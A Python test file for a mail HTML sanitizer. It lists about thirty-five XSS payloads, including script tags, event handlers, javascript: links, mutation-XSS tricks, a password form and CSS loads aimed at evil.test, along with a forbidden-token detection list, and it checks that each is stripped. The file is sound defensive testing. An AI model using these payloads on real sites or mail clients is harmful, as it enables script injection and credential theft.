"""Hostile and ordinary HTML of mail, made harmless."""

import time

import pytest

from web import mail_html

ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "a broken script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "an event handler": "<img src=x onerror=alert(1)>",
    "an event handler on anything": "<p onmouseover='alert(1)'>x</p>",
    "a handler after a slash": "<img/src=x/onerror=alert(1)>",
    "a javascript link": "<a href='javascript:alert(1)'>x</a>",
    "a javascript link with a tab": "<a href='jav&#9;ascript:alert(1)'>x</a>",
    "a javascript link in entities": "<a href='&#106;avascript:alert(1)'>x</a>",
    "a data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "a vbscript link": "<a href='vbscript:msgbox(1)'>x</a>",
    "a frame": "<iframe src=https://evil.test></iframe>",
    "a frame with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": "<object data=evil.swf></object><embed src=evil.swf>",
    "a form": "<form action=https://evil.test><input name=password><button>Go</button></form>",
    "a base": "<base href=https://evil.test/>",
    "a refresh": "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "a style sheet": "<link rel=stylesheet href=https://evil.test/x.css>",
    "a style element": "<style>@import 'https://evil.test/x.css'</style>",
    "a style with an address": "<p style='background-image:url(https://evil.test/x)'>x</p>",
    "a style with an escaped address": "<p style='color:\\75rl(https://evil.test/x)'>x</p>",
    "an overlay": "<div style='position:fixed;inset:0;z-index:99'>x</div>",
    "an svg script": "<svg><script>alert(1)</script></svg>",
    "an svg handler": "<svg onload=alert(1)>",
    "a math trick": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "a comment trick": "<!--><img src=x onerror=alert(1)>-->",
    "a noscript trick": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "a template": "<template><script>alert(1)</script></template>",
    "an svg picture in data": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "a picture set": "<img srcset='https://evil.test/x 1x'><picture><source srcset=x></picture>",
    "a background": "<table background=https://evil.test/x><tr><td>x</table>",
    "a video": "<video src=https://evil.test/x autoplay></video><audio src=x></audio>",
    "our own words": "<button hx-post=/sign-out hx-trigger=load>x</button>",
    "an unclosed end": "<p title='",
    "a quote in an attribute": "<a href='https://x.test/\"onmouseover=alert(1)'>x</a>",
}
FORBIDDEN = (
    "<script", "<iframe", "<object", "<embed", "<form", "<input", "<button", "<base", "<meta", "<link",
    "<style", "<svg", "<math", "<video", "<audio", "<template", " onerror=", " onload=",
    ' onmouseover=', "javascript:", "vbscript:", "data:text", "data:image/svg", "url(", "position",
    "srcset", "background=", "hx-", "@import",
)  # fmt: skip


@pytest.mark.parametrize("pictures", [False, True])
@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_that_acts_is_left(name, pictures):
    cleaned = mail_html.clean(f"<p>before</p>{ATTACKS[name]}", pictures).html.lower()
    assert "before" in cleaned
    # What stands in quotes is text: `title="<script"` cannot act. Nothing of it is in these cases.
    assert [each for each in FORBIDDEN if each in cleaned.replace('"onmouseover=', "")] == []


def test_a_quote_cannot_leave_its_attribute():
    cleaned = mail_html.clean(
        """<a title='"><script>x</script>' href='https://x.test/"a=b'>x</a>"""
    )
    assert "<script" not in cleaned.html
    assert '"a=b' not in cleaned.html


def test_pictures_from_elsewhere_wait_until_asked():
    html = '<p>Hi <img src="https://x.test/a.png" alt="Logo <b>"> <img src="data:image/png;base64,AA=="></p>'
    shut = mail_html.clean(html)
    assert shut.remote == 1
    assert "x.test" not in shut.html
    assert '<span class="picture">Logo &lt;b&gt;</span>' in shut.html
    assert "data:image/png" in shut.html
    assert 'src="https://x.test/a.png"' in mail_html.clean(html, pictures=True).html


def test_a_picture_of_one_dot_is_never_shown():
    html = '<p>Hi<img src="https://x.test/t.gif" width="1" height="1"></p>'
    assert "x.test" not in mail_html.clean(html, pictures=True).html
    assert mail_html.clean(html).remote == 0


def test_a_picture_inside_the_mail_is_left_out_where_it_is_not_kept():
    assert mail_html.clean('<img src="cid:logo@x">').html == ""


def test_a_picture_inside_the_mail_is_asked_for_from_us():
    own = {"logo@x": "/emails/1/files/2", "a b": "/emails/1/files/3"}
    html = '<img src="cid:logo@x" alt="L"><img src="CID:a%20b"><img src="cid:other@x">'
    cleaned = mail_html.clean(html, own=own)
    assert cleaned.html == '<img src="/emails/1/files/2" alt="L"><img src="/emails/1/files/3">'
    assert (cleaned.remote, cleaned.drawn) == (0, {"logo@x", "a b"})


@pytest.mark.parametrize("source", ["/sign-out", "//x.test/a.png", "emails/1/files/2", "cid:"])
def test_a_mail_names_no_picture_of_ours_itself(source):
    assert "src" not in mail_html.clean(f'<img src="{source}">', True, {"x": "/y"}).html


def test_a_link_to_a_part_of_the_mail_leads_nowhere():
    assert "cid" not in mail_html.clean('<a href="cid:logo@x">x</a>', own={"logo@x": "/y"}).html


def test_links_leave_without_telling_where_from():
    html = mail_html.clean('<a href="https://x.test" target="_top" rel="opener">x</a>').html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert "opener nofollow" not in html.replace("noopener", "")


@pytest.mark.parametrize(
    ("html", "folded"),
    [
        (
            '<p>new</p><div class="gmail_quote">old<blockquote>older</blockquote></div><p>end</p>',
            "old",
        ),
        ('<p>new</p><blockquote type="cite">old</blockquote>', "old"),
        ('<div>new<div id="appendonsend"></div><hr><p>old</p></div>', "old"),
        ('<p>new</p><div id="divRplyFwdMsg">From: x</div><p>old</p>', "From: x"),
        ('<p>new</p><div class="x yahoo_quoted">old</div>', "old"),
    ],
)
def test_quotations_are_folded_not_lost(html, folded):
    cleaned = mail_html.clean(html).html
    before, _, after = cleaned.partition("<details>")
    assert "new" in before
    assert folded in after.partition("</details>")[0]
    assert cleaned.count("<details>") == cleaned.count("</details>") == 1
    assert "class=" not in cleaned
    assert "id=" not in cleaned


def test_a_mail_that_is_all_quotation_is_not_folded():
    assert "<details>" not in mail_html.clean('<div class="gmail_quote">all</div>').html


def test_a_mail_with_colours_of_its_own_keeps_to_light():
    assert not mail_html.clean('<p style="color:#111">x</p>').plain
    assert mail_html.clean("<p>x</p>").plain


def test_plain_text_is_not_html():
    assert "&lt;script&gt;" in mail_html.text_page("<script>").html


@pytest.mark.parametrize(
    "html", ["<div>" * 50_000, "<div></x>" * 50_000, "<" * 500_000, "<a href='" * 50_000, "<!--" * 100_000, "&#0;" * 100_000,
             "<blockquote type=cite>" * 20_000, "<table><td>" * 20_000, "\x00\ud800",
             "\xa0" * 500_000, "&" * 500_000, "".join(f"<html a{i}=1>" for i in range(20_000))]
)  # fmt: skip
def test_hostile_sizes_are_cleaned_in_time(html):
    start = time.thread_time()
    mail_html.clean(html)
    assert time.thread_time() - start < 60  # hangs, on the slowest machine


def test_the_frame_may_not_run_load_or_send_anything():
    policy = mail_html.policy(pictures=False)
    assert "default-src 'none'" in policy
    assert "script-src 'none'" in policy
    assert "img-src 'self' data:;" in policy
    assert "form-action 'none'" in policy
    assert "allow-scripts" not in policy
    assert "allow-forms" not in policy
